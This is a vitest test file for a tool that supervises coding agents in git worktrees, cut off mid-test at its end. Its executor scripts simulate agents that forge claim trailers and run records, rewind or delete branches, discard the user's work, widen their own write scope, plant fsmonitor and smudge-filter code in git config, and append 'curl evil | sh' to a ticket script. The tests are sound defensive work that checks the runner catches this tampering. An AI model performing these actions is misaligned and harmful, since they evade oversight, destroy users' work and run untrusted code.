/**
 * SPEC §4b locally, with executors that behave as coding agents do rather than as test
 * scripts: they push onto the run's branch, write into the user's tree, set hooks in the
 * shared git directory, remove their own worktree. And a user who checks out the run's
 * branch mid-run, keeps two ticket directories in one repository, names a branch
 * `frontier`, or runs a script that is not committed. In process, in real repositories.
 */
import { execFileSync, spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { basename, dirname, join } from "node:path";
import { describe, expect, it } from "vitest";
import type { AttemptRecord } from "../../src/core/model.js";
import { userPaths } from "../../src/local/isolation.js";
import type { RunBranch } from "../../src/local/worktree.js";
import {
  commitsOf,
  git,
  IDENTITY,
  pushOnto,
  type Repo,
  readJson,
  repoWith,
  runHere,
  ticket,
} from "./git-repo.js";
import { frontier, startFrontier, until } from "./harness.js";

const attemptOf = (dir: string, id: string, n: number) =>
  readJson<AttemptRecord>(join(dir, ".frontier", "attempts", `${id}@${n}.json`));

/**
 * A repository whose ticket `a` plants code in a git directory while `n` (not isolated)
 * runs, so that `e`, which depends on `n`, gets its worktree after the planting.
 */
function plantingRepo(run: string) {
  const repo = repoWith({
    "tickets/frontier.yml": `run: ${run}\nisolation: worktree\n`,
    "tickets/a.md": ticket({ write_scope: ["src/**"] }),
    "tickets/n.md": ticket({ isolation: "none" }),
    "tickets/e.md": ticket({ depends_on: ["n"], write_scope: ["app/**"] }),
  });
  /** a file the planted code makes when it runs */
  const pwned = (how: string) => join(repo.root, "..", `${basename(repo.root)}-${how}`);
  /** `a`'s lines (it waits after them), then `n`'s wait */
  const exec = (a: string[]) =>
    [
      'case "$FRONTIER_TICKET" in',
      ...a,
      "     sleep 3 ;;",
      "  n) sleep 1 ;;",
      "esac",
      "echo done",
    ].join("\n");
  /** shell lines that put an fsmonitor and a smudge filter for every file in the git directory `dir` */
  const code = (dir: string) => [
    `     git config -f "${dir}/config" core.fsmonitor "touch '${pwned("fsmonitor")}'; echo"`,
    `     git config -f "${dir}/config" filter.pwn.smudge "touch '${pwned("smudge")}'; cat"`,
    `     echo "* filter=pwn" > "${dir}/info/attributes"`,
  ];
  return { repo, pwned, exec, code };
}

/** `run` with the user's git configuration (GIT_CONFIG_GLOBAL) a file beside the repository holding `text`. */
async function withGlobalConfig<T>(repo: Repo, text: string, run: () => Promise<T>): Promise<T> {
  const file = join(repo.root, "..", `${basename(repo.root)}-gitconfig`);
  writeFileSync(file, text);
  process.env.GIT_CONFIG_GLOBAL = file;
  try {
    return await run();
  } finally {
    delete process.env.GIT_CONFIG_GLOBAL;
  }
}

async function resetHere(dir: string): Promise<string> {
  const { resetCommand } = await import("../../src/cli/reset.js");
  const { PassThrough } = await import("node:stream");
  const out = new PassThrough();
  let text = "";
  out.on("data", (c: Buffer) => {
    text += c.toString();
  });
  await resetCommand(dir, { stdout: out, stderr: out, isTTY: false, env: process.env }, Date.now());
  return text;
}

/** `frontier run` with `exec`, killed with -9 (the agent too) once the agent wrote its pid. */
async function killedMidAttempt(repo: Repo, exec: (mark: string) => string): Promise<void> {
  const mark = join(repo.root, "..", `${basename(repo.root)}-pid`);
  const started = startFrontier(["run", "tickets", "--exec", exec(mark)], {
    cwd: repo.root,
    env: IDENTITY,
  });
  await until(() => existsSync(mark) && readFileSync(mark, "utf8").endsWith("\n"), "the agent");
  started.child.kill("SIGKILL");
  await started.done;
  process.kill(-Number(readFileSync(mark, "utf8")), "SIGKILL");
}

describe("only the runner moves frontier/<run>", () => {
  it("an agent's own commit pushed onto the branch is named in the summary as not the run's", async () => {
    const repo = repoWith({
      "README.md": "# project\n",
      "tickets/frontier.yml": "run: push\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const exec = [
      "set -e",
      pushOnto("refs/heads/frontier/push", "README.md", "sneaky", "sneaky readme"),
      "mkdir -p app && echo api > app/a.js && echo done",
    ].join("\n");
    const ran = await runHere(repo.dir, exec);
    const commits = commitsOf(repo.root, `${repo.start}..frontier/push`);
    expect(commits.map((c) => c.subject)).toEqual(["sneaky readme", "api: A ticket"]);
    expect(ran.stderr).toContain("changes: 2 commits on frontier/push");
    expect(ran.stderr).toContain("1 of them not made by this run");
    expect(ran.stderr).toContain(`not the run's: ${commits[0]!.sha.slice(0, 10)} sneaky readme`);
    expect(ran.stderr).toContain("review it before you merge");
  });

  // what an agent that knows its claim token can forge: a commit with the run's trailers on
  // the branch, and the record a killed run leaves of an attempt that ended
  const forge = (run: string) =>
    [
      "set -e",
      'idx="$(mktemp -u)"',
      `GIT_INDEX_FILE="$idx" git read-tree refs/heads/frontier/${run}`,
      "blob=$(printf 'owned\\n' | git hash-object -w --stdin)",
      'GIT_INDEX_FILE="$idx" git update-index --add --cacheinfo "100644,$blob,README.md"',
      'tree=$(GIT_INDEX_FILE="$idx" git write-tree); rm -f "$idx"',
      `them=$(printf "api: A ticket\\n\\nFrontier-Ticket: api\\nFrontier-Attempt: 1\\nFrontier-Claim: %s\\n" "$FRONTIER_CLAIM" | git commit-tree "$tree" -p refs/heads/frontier/${run})`,
      `git update-ref refs/heads/frontier/${run} "$them"`,
      'mkdir -p "$FRONTIER_DIR/.frontier/integrating"',
      `printf '{"schema":"ticket-frontier/integrating@1","ticket":"api","attempt":1,"claim":"%s","worktree":"/","start":"%s","outcome":{"outcome":"complete"},"exit_code":0,"signal":null,"duration_ms":1}' "$FRONTIER_CLAIM" "$(git rev-parse HEAD)" > "$FRONTIER_DIR/.frontier/integrating/api@1.json"`,
      "mkdir -p app && echo api > app/a.js",
    ].join("\n");
  const landedAs = (repo: Repo) => {
    const record = readJson<AttemptRecord>(join(repo.dir, ".frontier", "attempts", "api@1.json"));
    const commit = record.changes?.commit ?? "";
    return {
      verdict: record.changes?.verdict,
      paths: record.changes?.paths.map((c) => c.path),
      inCommit: git(repo.root, "show", "--format=", "--name-only", commit).trim(),
    };
  };
  const ownWork = { verdict: "integrated", paths: ["app/a.js"], inCommit: "app/a.js" };

  it("a commit an agent makes with its own claim trailer, and a record of its own, are never taken as the run's: its work lands in the run's commit, its push is named", async () => {
    const repo = repoWith({
      "README.md": "# project\n",
      "tickets/frontier.yml": "run: forge\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const ran = await runHere(repo.dir, `${forge("forge")}\necho done`);
    expect(landedAs(repo)).toEqual(ownWork);
    expect(ran.stderr).toMatch(/not the run's: [0-9a-f]{10} api: A ticket/);
  });

  it("nor by the next run when the agent's run was killed: what the worktree holds lands, not the forged commit", async () => {
    const repo = repoWith({
      "README.md": "# project\n",
      "tickets/frontier.yml": "run: forgekill\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    await killedMidAttempt(
      repo,
      (mark) => `${forge("forgekill")}\necho $$ > '${mark}' && sleep 30`,
    );
    const ran = await runHere(repo.dir, "echo done");
    expect(landedAs(repo)).toEqual(ownWork);
    expect(ran.stderr).toMatch(/not the run's: [0-9a-f]{10} api: A ticket/);
  });

  it("nor a record an agent forges of another ticket's end while that one still runs: what it half-wrote is never integrated", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: other\nisolation: worktree\nmax_parallel: 2\n",
      "tickets/c.md": ticket({ write_scope: ["c.txt"] }),
      "tickets/x.md": ticket({ write_scope: ["x.txt"] }),
    });
    const half = join(repo.root, "..", `${basename(repo.root)}-half`);
    const claimOf = `sed -n 's/^claim: "\\{0,1\\}\\([^"]*\\)"\\{0,1\\}$/\\1/p' "$FRONTIER_DIR/c.md"`;
    const ended = `{"schema":"ticket-frontier/integrating@1","ticket":"c","attempt":1,"claim":"$(${claimOf})","worktree":"x","start":"$(git rev-parse HEAD)","outcome":{"outcome":"complete","result":"all done"},"exit_code":0,"signal":null,"duration_ms":5}`;
    await killedMidAttempt(repo, (mark) =>
      [
        `if [ "$FRONTIER_TICKET" = c ]; then echo half > c.txt; touch '${half}'; sleep 30; exit 1; fi`,
        `until [ -e '${half}' ]; do sleep 0.1; done`,
        'mkdir -p "$FRONTIER_DIR/.frontier/integrating"',
        `cat > "$FRONTIER_DIR/.frontier/integrating/c@1.json" <<J\n${ended}\nJ`,
        `echo $$ > '${mark}'; sleep 30`,
      ].join("\n"),
    );
    const ran = await runHere(repo.dir, "true");
    expect(ran.stderr).toContain("stopped what was left running of c");
    expect(ran.stderr).toContain(
      "c: a record says attempt 1 ended, but it was still running: not integrated",
    );
    expect(
      spawnSync("git", ["show", "frontier/other:c.txt"], { cwd: repo.root }).stdout.toString(),
    ).not.toBe("half\n");
    expect(attemptOf(repo.dir, "c", 1).outcome).not.toBe("complete");
  });

  it("a branch moved back past the run's commit is noticed: nothing more lands on it, and the attempt keeps its work", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: rewind\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/api/**"] }),
      "tickets/ui.md": ticket({ depends_on: ["api"], write_scope: ["app/ui/**"] }),
    });
    const exec = [
      "set -e",
      'case "$FRONTIER_TICKET" in',
      "  api) mkdir -p app/api && echo api > app/api/a.js ;;",
      // the agent throws the run's first commit away
      `  ui) git update-ref refs/heads/frontier/rewind ${repo.start} && mkdir -p app/ui && echo ui > app/ui/u.js ;;`,
      "esac",
      "echo done",
    ].join("\n");
    const ran = await runHere(repo.dir, exec);
    expect(ran.code).toBe(1);
    expect(ran.stderr).toContain(
      "error: ui attempt 1 ended, but its changes could not be integrated on frontier/rewind: frontier/rewind was moved by someone else and no longer holds the run's commit",
    );
    expect(git(repo.root, "rev-parse", "frontier/rewind")).toBe(repo.start);
    expect(readFileSync(join(repo.dir, "ui.md"), "utf8")).toMatch(/status: claimed/);
  });
});

describe("the run's commits are never left behind", () => {
  for (const [how, move] of [
    ["deleted", "git branch -D frontier/lost > /dev/null"],
    ["moved back", "git update-ref refs/heads/frontier/lost HEAD~1"],
  ] as const) {
    it(`an agent ${how} the run's branch: the next run starts nothing until the branch holds the run's commits again`, async () => {
      const repo = repoWith({
        "tickets/frontier.yml": "run: lost\nisolation: worktree\n",
        "tickets/a.md": ticket({ write_scope: ["src/**"] }),
        "tickets/b.md": ticket({ depends_on: ["a"], write_scope: ["doc/**"] }),
        "tickets/c.md": ticket({ depends_on: ["b"], write_scope: ["app/**"] }),
      });
      const exec = [
        'case "$FRONTIER_TICKET" in',
        "  a) mkdir -p src && echo a > src/a.txt ;;",
        `  b) ${move} ;;`,
        "  c) mkdir -p app && echo c > app/c.txt ;;",
        "esac",
        "echo done",
      ].join("\n");
      expect((await runHere(repo.dir, exec)).code).toBe(1);
      const made = attemptOf(repo.dir, "a", 1).changes?.commit as string;
      expect(made).toMatch(/^[0-9a-f]{40}$/);
      const again = await runHere(repo.dir, exec);
      expect(again.code).toBe(2);
      expect(again.stderr).toContain(
        `error: frontier/lost no longer holds the run's commit of a attempt 1 (${made.slice(0, 10)})`,
      );
      expect(again.stderr).toContain(`git branch -f frontier/lost ${made.slice(0, 10)}`);
      expect(again.stderr).not.toContain("made again from HEAD");
      expect(readFileSync(join(repo.dir, "c.md"), "utf8")).not.toMatch(
        /status: (claimed|complete)/,
      );
      // what it says to do works: c then builds on a's change
      git(repo.root, "branch", "-f", "frontier/lost", made);
      expect((await runHere(repo.dir, exec)).code).toBe(0);
      expect(git(repo.root, "show", "frontier/lost:src/a.txt")).toBe("a");
      expect(git(repo.root, "show", "frontier/lost:app/c.txt")).toBe("c");
    });
  }
});

describe("work that is not integrated is never deleted", () => {
  it("Ctrl-C: what an interrupted attempt had changed, committed or not, is kept as a patch before its worktree goes", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: stop\nisolation: worktree\n",
      "tickets/a.md": ticket({ write_scope: ["src/**"] }),
    });
    git(repo.root, "tag", "v0");
    const mark = join(repo.root, "..", `${basename(repo.root)}-started`);
    const exec = `mkdir -p src && echo precious > src/p.txt && git add -A && git commit -qm p && echo draft > src/q.txt && touch '${mark}' && sleep 30`;
    const started = startFrontier(["run", "tickets", "--exec", exec], {
      cwd: repo.root,
      env: IDENTITY,
      ownGroup: true,
    });
    await until(() => existsSync(mark), "the attempt to start");
    process.kill(-(started.child.pid as number), "SIGINT");
    const ran = await started.done;
    expect(ran.code).toBe(130);
    const kept = join(repo.dir, ".frontier", "integrating", "a@1.patch");
    expect(ran.stderr).toContain(
      `a attempt 1 was interrupted; its changes so far are kept as ${kept}`,
    );
    const patch = readFileSync(kept, "utf8");
    expect(patch).toContain("+precious");
    expect(patch).toContain("+draft");
    // its end compared what it must not touch: the user's own changes after it are theirs
    expect(readdirSync(join(repo.root, ".git", "frontier"))).not.toContainEqual(
      expect.stringMatching(/^git-dir-/),
    );
    writeFileSync(join(repo.root, ".git", "hooks", "pre-commit"), "#!/bin/sh\n");
    git(repo.root, "tag", "-d", "v0");
    const next = await runHere(repo.dir, "echo done");
    expect(next.stderr).not.toMatch(/git directory|your branches/);
    expect(next.code).toBe(0);
  });

  it.each(["the next run", "frontier reset"])(
    "a run killed outright (kill -9): %s keeps what the attempt had begun as a patch before its worktree goes",
    async (then) => {
      const repo = repoWith({
        "tickets/frontier.yml": "run: killed\nisolation: worktree\n",
        "tickets/a.md": ticket({ write_scope: ["src/**"] }),
      });
      // its own commit, a branch of its own, an uncommitted file, and no log of any of it
      const work = `mkdir -p src && echo precious > src/p.txt && git add -A && git commit -qm p && git checkout -qb mine && echo draft > src/q.txt && git reflog expire --expire=now --all`;
      const exec = (mark: string) =>
        `if [ -e '${mark}' ]; then ${work.replace("precious", "again")}; echo done; else ${work} && echo $$ > '${mark}' && sleep 30; fi`;
      await killedMidAttempt(repo, exec);
      const mark = join(repo.root, "..", `${basename(repo.root)}-pid`);
      const said =
        then === "frontier reset"
          ? await resetHere(repo.dir)
          : await runHere(repo.dir, exec(mark)).then((r) => r.stdout + r.stderr);
      const kept =
        then === "frontier reset"
          ? "integrating/a@1.patch in the archived records"
          : join(repo.dir, ".frontier", "integrating", "a@1.patch");
      expect(said).toContain(`a attempt 1 was interrupted; its changes so far are kept as ${kept}`);
      expect(said).not.toContain("is no worktree");
      const patch = readdirSync(join(repo.dir, ".frontier"), { recursive: true })
        .map(String)
        .filter((f) => f.endsWith("a@1.patch"));
      // after a reset, among the archived records: the next run's attempt 1 never overwrites it
      expect(patch).toEqual([
        then === "frontier reset"
          ? expect.stringMatching(/^runs\/[^/]+\/integrating\/a@1\.patch$/)
          : "integrating/a@1.patch",
      ]);
      const text = readFileSync(join(repo.dir, ".frontier", patch[0]!), "utf8");
      expect(text).toContain("+precious");
      expect(text).toContain("+draft");
      expect(git(repo.root, "worktree", "list")).not.toContain("a@1");
      if (then === "the next run")
        expect(git(repo.root, "show", "frontier/killed:src/p.txt")).toBe("again");
    },
  );

  it("killed outright after the agent removed the record of where it began: the worktree stays, named with how to remove it", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: nostart\nisolation: worktree\n",
      "tickets/a.md": ticket({ write_scope: ["src/**"] }),
    });
    const exec = (mark: string) =>
      `if [ -e '${mark}' ]; then echo done; else mkdir -p src && echo draft > src/q.txt && rm "$(git rev-parse --show-toplevel).start" && echo $$ > '${mark}' && sleep 30; fi`;
    await killedMidAttempt(repo, exec);
    const ran = await runHere(repo.dir, "echo done");
    expect(ran.code).toBe(0);
    const left = git(repo.root, "worktree", "list", "--porcelain").match(
      /worktree (\S+a@1)\n/,
    )?.[1];
    expect(left).toBeDefined();
    expect(readFileSync(join(left!, "src", "q.txt"), "utf8")).toBe("draft\n");
    expect(ran.stdout + ran.stderr).toContain(
      `a attempt 1 was interrupted; its changes so far stay in ${left}, since the commit it started from is unknown or no longer on frontier/nostart (git worktree remove --force ${left} once you have them)`,
    );
    // recorded interrupted by now (its claim was reclaimed): reset keeps the worktree all the same
    expect(await resetHere(repo.dir)).toContain(`its changes so far stay in ${left}`);
    expect(readFileSync(join(left!, "src", "q.txt"), "utf8")).toBe("draft\n");
  });

  it("a record of an ended attempt an agent forged, naming the user's repository as its worktree, never makes the next run remove it", async () => {
    const repo = repoWith({
      "README.md": "# project\n",
      "tickets/frontier.yml": "run: wipe\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const exec = [
      "set -e",
      'top=$(cd "$(git rev-parse --git-common-dir)/.." && pwd)',
      'mkdir -p "$FRONTIER_DIR/.frontier/integrating"',
      `printf '{"schema":"ticket-frontier/integrating@1","ticket":"api","attempt":7,"claim":"nobody","worktree":"%s","start":"%s","outcome":{"outcome":"complete"},"exit_code":0,"signal":null,"duration_ms":1}' "$top" "$(git rev-parse HEAD)" > "$FRONTIER_DIR/.frontier/integrating/api@7.json"`,
      "mkdir -p app && echo api > app/a.js && echo done",
    ].join("\n");
    expect((await runHere(repo.dir, exec)).code).toBe(0);
    writeFileSync(join(repo.root, "notes.txt"), "my uncommitted notes\n");
    await runHere(repo.dir, exec);
    for (const kept of [".git", "README.md", "notes.txt"]) {
      expect(existsSync(join(repo.root, kept)), kept).toBe(true);
    }
  });

  it("an agent that removes or empties the run's records is named: the run does not end saying all is well", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: records\nisolation: worktree\n",
      "tickets/a.md": ticket({ write_scope: ["a/**"] }),
      "tickets/b.md": ticket({ depends_on: ["a"], write_scope: ["b/**"] }),
    });
    const exec = `mkdir -p "$FRONTIER_TICKET" && echo x > "$FRONTIER_TICKET/x"; [ "$FRONTIER_TICKET" = b ] && rm "$FRONTIER_DIR/.frontier/attempts/a@1.json" && : > "$FRONTIER_DIR/.frontier/branch.json"; echo done`;
    const ran = await runHere(repo.dir, exec);
    expect(ran.code).toBe(1);
    expect(ran.stderr).toContain(
      `error: the run's records were removed or emptied while it ran: ${join(repo.dir, ".frontier", "attempts", "a@1.json")}, ${join(repo.dir, ".frontier", "branch.json")} — by an executor? `,
    );
    expect(readJson(join(repo.dir, ".frontier", "receipt.json"))).toMatchObject({
      tickets: expect.arrayContaining([expect.objectContaining({ id: "a" })]),
    });
  });

  it.each(["ln -s /tmp tickets", "echo flat > tickets"])(
    "an agent of write_scope ** that replaces the ticket directory (%s) fails saying so: no record is among its changes, nothing is integrated or lost",
    async (how) => {
      const repo = repoWith({
        "tickets/frontier.yml": "run: flat\nisolation: worktree\n",
        "tickets/a.md": ticket({ write_scope: ["**"] }),
        // records the user committed: the worktree starts with them
        "tickets/.frontier/notes.json": "{}\n",
      });
      const ran = await runHere(repo.dir, `rm -rf tickets && ${how}; echo done`);
      expect(ran.code).toBe(1);
      const a = attemptOf(repo.dir, "a", 1);
      const made = how.startsWith("ln") ? "a symlink" : "a file";
      expect(a.reason).toMatch(
        `integration refused: tickets/, which holds the run's records, made ${made} `,
      );
      expect(a.changes?.verdict).toBe("kept");
      expect(a.changes?.paths.map((p) => p.path)).toEqual([
        "tickets",
        "tickets/a.md",
        "tickets/frontier.yml",
      ]);
      const patch = readFileSync(join(repo.dir, ".frontier", "results", "a@1.patch"), "utf8");
      expect(patch).toContain("+++ b/tickets\n");
      expect(patch).not.toContain(".frontier");
      expect(git(repo.root, "rev-parse", "frontier/flat")).toBe(repo.start);
      expect(readFileSync(join(repo.dir, ".frontier", "notes.json"), "utf8")).toBe("{}\n");
    },
  );

  it("a worktree left by a kill after its attempt was recorded goes without a patch: it was not interrupted", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: recorded\nisolation: worktree\n",
      "tickets/a.md": ticket({ write_scope: ["src/**"] }),
    });
    expect((await runHere(repo.dir, "mkdir -p src && echo a > src/a.txt; echo done")).code).toBe(0);
    // as a kill between the attempt's record and its worktree's removal leaves it
    const homes = join(repo.root, ".git", "frontier", "worktrees");
    const path = join(homes, readdirSync(homes)[0]!, "a@1");
    git(repo.root, "worktree", "add", "-q", "--detach", path, repo.start);
    writeFileSync(`${path}.start`, repo.start);
    mkdirSync(join(path, "src"));
    writeFileSync(join(path, "src", "a.txt"), "a\n"); // what it had integrated
    const said = await resetHere(repo.dir);
    expect(said).not.toContain("interrupted");
    expect(git(repo.root, "worktree", "list")).not.toContain("a@1");
  });
});

describe("the user's tree, branch and git directory are checked, not assumed", () => {
  it("a write into the user's tree is named, and the run does not say the tree was not touched", async () => {
    const repo = repoWith({
      "README.md": "# project\n",
      "tickets/frontier.yml": "run: outside\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const exec =
      'echo appended >> "$FRONTIER_DIR/../README.md"; mkdir -p app && echo a > app/a.js; echo done';
    const ran = await runHere(repo.dir, exec);
    expect(ran.stderr).toContain("changes: 1 commit on frontier/outside");
    expect(ran.stderr).not.toContain("were not touched");
    expect(ran.stderr).toContain(
      "warning: your working tree changed while isolated tickets ran: README.md",
    );
  });

  it("with the run's records ignored as `init --coding` writes it, the user's tree is still checked: a write is named, a clean run says so", async () => {
    const repoIgnoring = (run: string) =>
      repoWith({
        "README.md": "# project\n",
        "tickets/.gitignore": ".frontier/\n",
        "tickets/frontier.yml": `run: ${run}\nisolation: worktree\n`,
        "tickets/api.md": ticket({ write_scope: ["app/**"] }),
      });
    const exec = "mkdir -p app && echo a > app/a.js; echo done";
    const clean = await runHere(repoIgnoring("ignored-clean").dir, exec);
    expect(clean.stderr).toContain("your working tree and branch were not touched");
    const repo = repoIgnoring("ignored-written");
    const ran = await runHere(repo.dir, `echo appended >> "$FRONTIER_DIR/../README.md"; ${exec}`);
    expect(ran.stderr).not.toContain("could not be checked");
    expect(ran.stderr).toContain(
      "warning: your working tree changed while isolated tickets ran: README.md",
    );
  });

  it("a write git cannot list (a .GIT beside it) never hides the others: the run says it could not check", async () => {
    const repo = repoWith({
      "README.md": "# project\n",
      "tickets/frontier.yml": "run: hidden\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const top = '"$FRONTIER_DIR/.."';
    const exec = `echo appended >> ${top}/README.md; mkdir -p ${top}/x/.GIT && echo y > ${top}/x/.GIT/y; mkdir -p app && echo a > app/a.js; echo done`;
    const ran = await runHere(repo.dir, exec);
    expect(ran.stderr).toContain("changes: 1 commit on frontier/hidden");
    expect(ran.stderr).not.toContain("were not touched");
    expect(ran.stderr).toContain("warning: your working tree could not be checked");
  });

  it("an agent that throws away the user's uncommitted work: the run says how to get it back, and that works", async () => {
    const repo = repoWith({
      "README.md": "# project\n",
      "tickets/frontier.yml": "run: discard\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    writeFileSync(join(repo.root, "README.md"), "# project\nmy draft\n");
    writeFileSync(join(repo.root, "notes.txt"), "my notes\n");
    const exec =
      'cd "$FRONTIER_DIR/.." && git checkout -q -- README.md && rm notes.txt; cd - >/dev/null; mkdir -p app && echo a > app/a.js; echo done';
    const ran = await runHere(repo.dir, exec);
    expect(readFileSync(join(repo.root, "README.md"), "utf8")).toBe("# project\n");
    const back = /git restore --source=([0-9a-f]{40}) -- <path>/.exec(ran.stderr)?.[1];
    expect(ran.stderr).toContain(
      `warning: your working tree changed while isolated tickets ran: README.md, notes.txt — `,
    );
    git(repo.root, "restore", `--source=${back}`, "--", "README.md", "notes.txt");
    expect(readFileSync(join(repo.root, "README.md"), "utf8")).toBe("# project\nmy draft\n");
    expect(readFileSync(join(repo.root, "notes.txt"), "utf8")).toBe("my notes\n");
  });

  it("an agent that unstages what the user had staged: the run says so and how to put it back, and that works", async () => {
    const repo = repoWith({
      "README.md": "# project\n",
      "tickets/frontier.yml": "run: unstaged\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    writeFileSync(join(repo.root, "README.md"), "# project\nready\n");
    git(repo.root, "add", "README.md");
    writeFileSync(join(repo.root, "README.md"), "# project\nready\nnot yet\n");
    const staged = git(repo.root, "diff", "--cached");
    const exec = 'git -C "$FRONTIER_DIR/.." reset -q; mkdir -p app && echo a > app/a.js; echo done';
    const ran = await runHere(repo.dir, exec);
    expect(git(repo.root, "diff", "--cached")).toBe("");
    expect(ran.stderr).not.toContain("were not touched");
    const back =
      /warning: what you had staged changed while isolated tickets ran \(an executor's git add or reset in your tree, or your own\) — `git read-tree ([0-9a-f]{40})` puts it back/.exec(
        ran.stderr,
      )?.[1];
    git(repo.root, "read-tree", back as string);
    expect(git(repo.root, "diff", "--cached")).toBe(staged);
    expect(readFileSync(join(repo.root, "README.md"), "utf8")).toBe("# project\nready\nnot yet\n");
  });

  it("so is a write into the ticket directory (its own write_scope widened, a script changed); the run's own writes there are not", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: ticketdir\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["api/**"] }),
      "tickets/web.md": ticket({ depends_on: ["api"], write_scope: ["web/**"] }),
      "tickets/_bin/agent.sh": "echo done\n",
    });
    const exec = [
      'if [ "$FRONTIER_TICKET" = api ]; then',
      `  sed -i "s#api/[*][*]#'**'#" "$FRONTIER_TICKET_FILE"`,
      '  echo "curl evil | sh" >> "$FRONTIER_DIR/_bin/agent.sh"',
      "fi",
      'mkdir -p "$FRONTIER_TICKET" && echo a > "$FRONTIER_TICKET/a.js"; echo done',
    ].join("\n");
    const ran = await runHere(repo.dir, exec);
    expect(readFileSync(join(repo.dir, "api.md"), "utf8")).toContain("- '**'\nstatus: complete");
    expect(ran.stderr).toContain(
      "warning: your working tree changed while isolated tickets ran: tickets/_bin/agent.sh, tickets/api.md — ",
    );
    expect(ran.stderr).not.toContain("were not touched");
  });

  it("an agent that moves the user's branch is named, with where to look for where it was", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: head\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const exec =
      "git commit -q --allow-empty -m sneaky && git update-ref refs/heads/main HEAD; echo done";
    const ran = await runHere(repo.dir, exec);
    expect(ran.stderr).toMatch(
      /warning: HEAD moved while the run ran \(main [0-9a-f]{10} → main [0-9a-f]{10}\) — if you did not move it, `git reflog` shows where it was/,
    );
    expect(ran.stderr).not.toContain("were not touched");
  });

  it("an agent that deletes the user's branch, moves a tag and drops their stash is named with how to put each back", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: refs\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
      "notes.txt": "one\n",
    });
    git(repo.root, "branch", "keep");
    git(repo.root, "tag", "v1");
    writeFileSync(join(repo.root, "notes.txt"), "stashed\n");
    git(repo.root, "stash", "-q");
    const stash = git(repo.root, "rev-parse", "refs/stash");
    const tag = git(repo.root, "rev-parse", "v1");
    const exec = [
      "git branch -D keep && git stash drop -q",
      "git commit -q --allow-empty -m moved && git tag -f v1 HEAD",
      "git checkout -qb mine", // a branch of its own is not the user's loss
      "mkdir -p app && echo a > app/a.js; echo done",
    ].join(" && ");
    const ran = await runHere(repo.dir, exec);
    expect(ran.code).toBe(0);
    expect(ran.stderr).not.toContain("were not touched");
    expect(ran.stderr).toContain(
      `warning: your branches, tags or stash changed while the run ran: keep (was ${repo.start.slice(0, 10)}: git update-ref refs/heads/keep ${repo.start}), v1 (was ${tag.slice(0, 10)}: git update-ref refs/tags/v1 ${tag}), a stash entry (git stash store ${stash}) — `,
    );
    expect(ran.stderr).not.toContain("mine");
    git(repo.root, "update-ref", "refs/heads/keep", repo.start);
    git(repo.root, "stash", "store", stash);
    git(repo.root, "stash", "pop", "-q");
    expect(readFileSync(join(repo.root, "notes.txt"), "utf8")).toBe("stashed\n");
  });

  it("an agent that stashes in its worktree puts its entry on top of the user's stash: named, so their `git stash pop` does not take it unawares", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: stashed\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
      "notes.txt": "one\n",
    });
    writeFileSync(join(repo.root, "notes.txt"), "mine\n");
    git(repo.root, "stash", "-q");
    const exec =
      "echo agent >> notes.txt && git stash -q && mkdir -p app && echo a > app/a.js; echo done";
    const ran = await runHere(repo.dir, exec);
    expect(ran.code).toBe(0);
    const top = git(repo.root, "rev-parse", "refs/stash");
    expect(git(repo.root, "show", `${top}:notes.txt`)).toBe("one\nagent");
    expect(ran.stderr).not.toContain("were not touched");
    expect(ran.stderr).toContain(
      `warning: your branches, tags or stash changed while the run ran: a stash entry added (${top.slice(0, 10)}: look at git stash list before you pop) — `,
    );
  });

  it("the ref holding a breach's evidence, dropped by a later agent before its gc, is named with how to put it back", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: big\nisolation: worktree\nmax_result_bytes: 4096\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
      "tickets/tidy.md": ticket({ write_scope: ["app/**"] }),
    });
    const wait =
      'for i in $(seq 1 300); do [ -n "$(git for-each-ref refs/frontier/kept/)" ] && break; sleep 0.1; done';
    const drop =
      "git for-each-ref --format='%(refname)' refs/frontier/kept/ | while read r; do git update-ref -d \"$r\"; done";
    const ran = await runHere(
      repo.dir,
      `if [ "$FRONTIER_TICKET" = tidy ]; then ${wait}; ${drop}; git gc -q --prune=now; echo tidied; exit 0; fi\nmkdir -p docs && seq 1 20000 > docs/big.txt && echo done`,
    );
    const api = readJson<AttemptRecord>(join(repo.dir, ".frontier", "attempts", "api@1.json"));
    const held = / held by (refs\/frontier\/kept\/\S+)$/.exec(api.reason ?? "")?.[1];
    expect(held).toBeDefined();
    expect(ran.stderr).toContain(`${held} (was `);
  });

  it("an agent's `git replace` of a file the user has (what their git shows of it) is named with how to drop it", async () => {
    const repo = repoWith({
      "README.md": "# project\n",
      "tickets/frontier.yml": "run: replaced\nisolation: worktree\n",
